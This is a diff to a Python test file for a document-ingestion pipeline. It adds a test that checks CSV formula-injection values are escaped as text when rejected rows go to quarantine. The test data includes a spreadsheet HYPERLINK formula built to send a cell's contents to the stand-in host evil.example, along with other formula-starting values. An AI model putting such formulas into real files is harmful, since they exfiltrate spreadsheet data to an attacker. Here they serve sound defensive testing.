@@ -2,6 +2,8 @@
 notifications arrive through SQS, Then each document is in its store (once, newest revision),
 rejects are quarantined beside a report, and the original is always kept in archive/."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -274,3 +276,23 @@ def test_objects_outside_the_inboxes_are_ignored(world):
 
     assert deliver(record) == {"batchItemFailures": []}
     assert world.keys("archive/") == []
+
+
+def test_formulas_in_rejected_rows_reach_quarantine_as_text(world):
+    body = order_csv(("1", 1, 10)) + (
+        b'=1+1,1,1763800000000,"=HYPERLINK(""http://evil.example/?d=""&A1)",@SUM(A1),-5,PC,'
+        b"berlin,1763870400000,1763899200000\n"
+        b"\t=cmd,1,1763800000000,+SUM(A1),-1+1,-5,PC,berlin,1763870400000,1763899200000\n"
+    )
+
+    deliver(world.drop("inbound/erp/production-order/f.csv", body))
+
+    rows = list(
+        csv.reader(io.StringIO(world.read("quarantine/erp/production-order/f.csv").decode()))
+    )
+    assert rows[1][:6] == [
+        "'=1+1", "1", "1763800000000", "'=HYPERLINK(\"http://evil.example/?d=\"&A1)",
+        "'@SUM(A1)", "-5",  # a plain negative number is a number, never a formula
+    ]  # fmt: skip
+    assert rows[2][:6] == ["'\t=cmd", "1", "1763800000000", "'+SUM(A1)", "'-1+1", "-5"]
+    assert world.read("archive/erp/production-order/f.csv") == body  # the original, verbatim
